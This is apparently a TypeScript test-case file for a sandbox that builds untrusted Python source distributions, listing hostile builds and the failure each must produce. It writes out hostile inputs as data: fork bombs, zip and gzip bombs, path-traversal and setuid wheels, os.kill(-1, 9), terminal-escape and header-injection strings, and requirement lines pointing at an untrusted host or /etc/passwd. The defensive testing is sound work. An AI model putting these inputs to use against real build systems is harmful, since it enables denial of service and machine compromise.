/** What hostile sdists attempt, how their jobs must end, and what proves that the same file has its way without a box. */
import type { FailureClass } from '../../../src/domain/failure.ts'
import type { Place, Unboxed } from './unboxed.ts'

export interface Case {
  name: string
  /** What plan.json tells the backend; undefined: its sdist is an archive of that kind. */
  plan: Plan | { archive: 'zip' | 'gzip' | 'sparse' }
  ends: FailureClass | 'built'
  /** Of the failure, whole. */
  key?: RegExp
  limits?: { time?: string; memory?: string; cpu?: number }
  /** Where the class alone does not show it: what the log must say, and must not. */
  says?: RegExp
  never?: RegExp
  /** What the unboxed run must have said, or done. Without it the attempt is one against Muslin alone. */
  unboxed?: Place & { proves: RegExp | ((ran: Unboxed) => boolean) }
}

export interface Plan { attempt?: string; step?: 'requires' | 'build'; wheel?: string; requires?: string[]; static?: string[]; [more: string]: unknown }

const MB = 1 << 20
const UNPACK = 'tar xzf *.tar.gz && cd hostile-*/'
const BUILD = `${UNPACK} && python3 backend.py`
const SHORT = `${UNPACK} && sed -i 's/"sleep":600/"sleep":3/' plan.json`
const INSTALL = 'python3 -m pip install -q --no-deps --no-index --no-cache-dir --target /tmp/installed'
/** Each member goes where its name leads. */
const CARELESS = 'python3 wheels.py out/*.whl'

export function casesOf({ mark, gate }: { mark: string; gate: string }): { takes: Case[]; leaves: Case[]; makes: Case[]; stays: Case[]; words: Case[] } {
  return {
    takes: [
      {
        name: 'disk', plan: { attempt: 'fill_disk' },
        ends: 'out-of-disk', key: /^$/, says: /full after [456]\d MB/,
        unboxed: { script: BUILD, disk: 48, proves: /full after (3[5-9]|4\d) MB/ },
      },
      {
        name: 'disk-early', plan: { attempt: 'fill_disk', step: 'requires' },
        ends: 'out-of-disk', key: /^$/, says: /full after [456]\d MB/,
        unboxed: { script: BUILD, disk: 48, proves: /full after (3[5-9]|4\d) MB/ },
      },
      {
        name: 'memory', plan: { attempt: 'fill_memory' },
        ends: 'out-of-memory', key: /^build, 256 MiB$/,
        unboxed: { script: BUILD, memoryBytes: 64 * MB, proves: ({ oomKills, peakBytes }) => oomKills > 0 && peakBytes > 63 * MB },
      },
      {
        name: 'sparse-in-build', plan: { attempt: 'sparse_file' },
        ends: 'built', says: /made 10737418240/,
        unboxed: { script: BUILD, disk: 48, proves: /made 10737418240/ },
      },
      {
        name: 'flood', plan: { attempt: 'flood', blocks: 70 },
        ends: 'built', says: /flood begins[^]*bytes of the log are missing here[^]*flood ends/, never: /\x1b(?!\[[0-9;:]*m)|[\x9b\u202e]/,
        unboxed: { script: BUILD, proves: ({ text }) => text.length > 40 * MB && text.includes('\x1b]0;owned\x07') && text.includes('flood ends') },
      },
    ],
    leaves: [
      {
        name: 'rights', plan: { attempt: 'become_root_by_file', wheel: 'with_rights' },
        ends: 'built', says: /rights by a file: uid 1000/,
        unboxed: { script: `${BUILD} && ${CARELESS} && stat -c %a /tmp/a/b/hostile_shell`, proves: /rights by a file: uid 0[^]*6755/ },
      },
      {
        name: 'programs', plan: { attempt: 'replace_programs', step: 'requires' },
        ends: 'built', says: /the machine's programs: refused[^]*replaced 3 of 3[^]*HIJACKED/,
        unboxed: { script: `${BUILD}; hash -r; python3 -c "print(1)"; pip --version`, proves: /the machine's programs: replaced ([1-9]\d*) of \1[^]*HIJACKED/ },
      },
      {
        name: 'poison', plan: { attempt: 'poison_caches' },
        ends: 'built', says: /another build left: nothing there[^]*byte code: refused/,
        unboxed: { script: `${BUILD}; rm -r out; python3 -S backend.py`, proves: /left: nothing there[^]*byte code: changed[^]*left: found [1-9]/ },
      },
      { name: 'poisoned', plan: { attempt: 'poison_caches' }, ends: 'built', says: /another build left: nothing there/ },
      {
        name: 'output', plan: { attempt: 'hold_output' },
        ends: 'built', says: /hold the output: started/,
        unboxed: { script: `${UNPACK}; timeout 2 sh -c "python3 backend.py | cat"; echo ended with $?`, proves: /started[^]*ended with 124/ },
      },
      {
        name: 'end', plan: { attempt: 'end_others' },
        ends: 'build-failed', key: /^no word of why$/,
        unboxed: { script: `sleep 60 & sleeper=$!; (${BUILD}); kill -0 $sleeper || echo it is gone`, proves: /it is gone/ },
      },
    ],
    makes: [
      {
        name: 'other-name', plan: { wheel: 'other_name' },
        ends: 'wrong-wheel', key: /^its requests-1\.0\.dist-info is not of hostile-other-name 1\.0$/,
        unboxed: { script: `${BUILD} && ${INSTALL} out/*.whl && ls /tmp/installed`, proves: /requests-1\.0\.dist-info/ },
      },
      {
        name: 'ten', plan: { wheel: 'ten' },
        ends: 'wrong-wheel', key: /^10 wheels came out$/,
        unboxed: { script: `${BUILD} && ls out | wc -l`, proves: /^10$/m },
      },
      {
        name: 'upward', plan: { wheel: 'upward' },
        ends: 'wrong-wheel', key: /^it is no sound zip file: Unsafe filename$/,
        unboxed: { script: `${BUILD} && ${CARELESS} && ls /tmp`, proves: new RegExp(`^${mark}\\.py$`, 'm') },
      },
      {
        name: 'absolute', plan: { wheel: 'absolute' },
        ends: 'wrong-wheel', key: /^it is no sound zip file: Unsafe filename$/,
        unboxed: { script: `${BUILD} && ${CARELESS} && ls /`, proves: new RegExp(`^${mark}$`, 'm') },
      },
      {
        name: 'controls', plan: { wheel: 'controls' },
        ends: 'wrong-wheel', key: /^its RECORD has the line "evil$/,
        unboxed: { script: `${BUILD} && ${CARELESS} && ls -N /tmp/a/b`, proves: /^X-Injected: yes\r?$/m },
      },
      {
        name: 'other-words', plan: { wheel: 'other_words' },
        ends: 'wrong-wheel', key: /^its METADATA is of evil\?$/,
        unboxed: {
          script: `${BUILD} && python3 -c 'import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read(sys.argv[2]).decode())' out/*.whl hostile_other_words-1.0.dist-info/METADATA`,
          proves: /Name: evil\x1b\]0;owned/,
        },
      },
      {
        name: 'huge-wheel', plan: { wheel: 'huge' },
        ends: 'wrong-wheel', key: /more than \d+ bytes/,
        unboxed: { script: `${BUILD} && stat -c %s out/*.whl`, disk: 48, proves: /^10737418240$/m },
      },
      {
        name: 'link-wheel', plan: { wheel: 'link' },
        ends: 'wrong-wheel', key: /is a symlink, not a file/,
        unboxed: { script: `${BUILD} && cat out/*.whl`, proves: /^root:/m },
      },
      {
        name: 'pipe-wheel', plan: { wheel: 'pipe' },
        ends: 'wrong-wheel', key: /is a fifo, not a file/,
        unboxed: { script: `${BUILD} && timeout 1 cat out/*.whl || echo waited for ever`, proves: /waited for ever/ },
      },
      {
        name: 'bomb-wheel', plan: { wheel: 'bomb' },
        ends: 'wrong-wheel', key: /larger than 268435456 bytes/,
        unboxed: { script: `${BUILD} && ${CARELESS}; df /tmp`, disk: 48, proves: /No space left[^]* 100% / },
      },
      {
        name: 'bombs-wheel', plan: { wheel: 'bombs' },
        ends: 'wrong-wheel', key: /more than 4294967296 bytes/,
        unboxed: { script: `${BUILD} && ${CARELESS}; df /tmp`, disk: 48, proves: /No space left[^]* 100% / },
      },
      {
        name: 'zip-bomb', plan: { archive: 'zip' },
        ends: 'bad-sdist', key: /unpacks to more than \d+ bytes/,
        unboxed: { script: 'python3 -m zipfile -e *.zip out; df /tmp', disk: 48, proves: /No space left[^]* 100% / },
      },
      {
        name: 'gzip-bomb', plan: { archive: 'gzip' },
        ends: 'bad-sdist', key: /unpacks to more than \d+ bytes/,
        unboxed: { script: 'python3 -m tarfile -e *.tar.gz; df /tmp', disk: 48, proves: /No space left[^]* 100% / },
      },
      {
        name: 'sparse-sdist', plan: { archive: 'sparse' },
        ends: 'bad-sdist', key: /sparse file/,
        unboxed: { script: 'tar xzf *.tar.gz; stat -c %s */huge', disk: 48, proves: /^10737418240$/m },
      },
    ],
    stays: [
      {
        name: 'sigterm', plan: { attempt: 'ignore_end', sleep: 600 },
        ends: 'timed-out', key: /^12 s$/, limits: { time: '12s' }, says: /ignore SIGTERM: sleeps/, never: /slept to its end/,
        unboxed: { script: `${SHORT}; timeout 1 python3 backend.py`, proves: /slept to its end/ },
      },
      {
        name: 'stopped', plan: { attempt: 'stop_others', wheel: 'large' },
        ends: 'timed-out', key: /^12 s$/, limits: { time: '12s' }, says: /runs beside it: started/,
        unboxed: { script: `${BUILD}; timeout -s KILL 3 tar cf /tmp/x /usr/bin; echo ended with $?`, proves: /ended with 137/ },
      },
      {
        name: 'endless-forks', plan: { attempt: 'fork_bomb', sleep: 600 },
        ends: 'timed-out', key: /^12 s$/, limits: { time: '12s', memory: '2g', cpu: 1 }, says: /fork for ever: begins/,
        unboxed: { script: `${SHORT}; python3 backend.py`, processes: 700, proves: ({ refusedForks }) => refusedForks > 0 },
      },
      {
        name: 'import-for-ever', plan: { wheel: 'with_module', module: 'hostile_import_for_ever', text: 'import time; time.sleep(600)' },
        ends: 'timed-out', key: /^12 s$/, limits: { time: '12s' },
        unboxed: {
          script: `${BUILD} && ${INSTALL} out/*.whl && cd /tmp/installed && timeout 1 python3 -c "import hostile_import_for_ever"; echo ended with $?`,
          proves: /ended with 124/,
        },
      },
      {
        name: 'import-end', plan: { wheel: 'with_module', module: 'hostile_import_end', text: 'import os; os.kill(-1, 9)' },
        // It does not kill itself, and may live to find the pipe broken that it writes to.
        ends: 'try-failed', key: /^(?:no word of why|BrokenPipeError: .*)$/,
        unboxed: {
          script: `sleep 60 & sleeper=$!; (${BUILD} && ${INSTALL} out/*.whl && cd /tmp/installed && python3 -c "import hostile_import_end"); kill -0 $sleeper || echo it is gone`,
          proves: /it is gone/,
        },
      },
      {
        name: 'import-words',
        plan: { wheel: 'with_module', module: 'hostile_import_words', text: 'raise ImportError("evil\\r\\nX-Injected: yes\\r\\n\\x1b]0;owned\\x07<script>", name=__name__)' },
        ends: 'try-failed', key: /^import hostile_import_words: evil$/,
        unboxed: {
          script: `${BUILD} && ${INSTALL} out/*.whl && cd /tmp/installed && python3 -c "import hostile_import_words"`,
          proves: /evil\r\nX-Injected: yes\r\n\x1b\]0;owned/,
        },
      },
    ],
    words: [
      {
        name: 'url', plan: { static: [`evil @ http://${gate}/evil.tar.gz`] },
        ends: 'build-requirement-unbuildable', key: /^evil$/,
        unboxed: {
          script: `${UNPACK} && python3 -m pip download -q --no-cache-dir --retries 0 --no-deps "evil @ http://${gate}/evil.tar.gz"`,
          proves: /Connection|RemoteDisconnected/,
        },
      },
      {
        name: 'url-later', plan: { requires: [`evil @ http://${gate}/evil.tar.gz`] },
        ends: 'build-requirement-unbuildable', key: /^evil$/,
      },
      {
        name: 'index', plan: { requires: [`--index-url http://${gate}/`, 'evil'] },
        ends: 'build-requirement-unbuildable', key: /^--index-url http:/,
      },
      { name: 'more-files', plan: { requires: ['-r /etc/passwd'] }, ends: 'build-requirement-unbuildable', key: /^-r \/etc\/passwd$/ },
      {
        name: 'header', plan: { attempt: 'name_options', include: '#include <--allow-untrusted.h>\n' },
        ends: 'missing-header', key: /^--allow-untrusted\.h$/,
      },
      {
        name: 'pkg-config', plan: { attempt: 'name_more_options', words: `ERROR: Dependency "--repository=http://${gate}/" not found` },
        ends: 'missing-pkg-config', key: /^--repository=http:/,
      },
      {
        name: 'command', plan: { attempt: 'name_more_options', words: 'sh: --allow-untrusted: command not found' },
        ends: 'missing-command', key: /^--allow-untrusted$/,
      },
      {
        name: 'library', plan: { attempt: 'name_more_options', words: 'ld: cannot find -l-allow-untrusted' },
        ends: 'missing-library', key: /^-allow-untrusted$/,
      },
    ],
  }
}
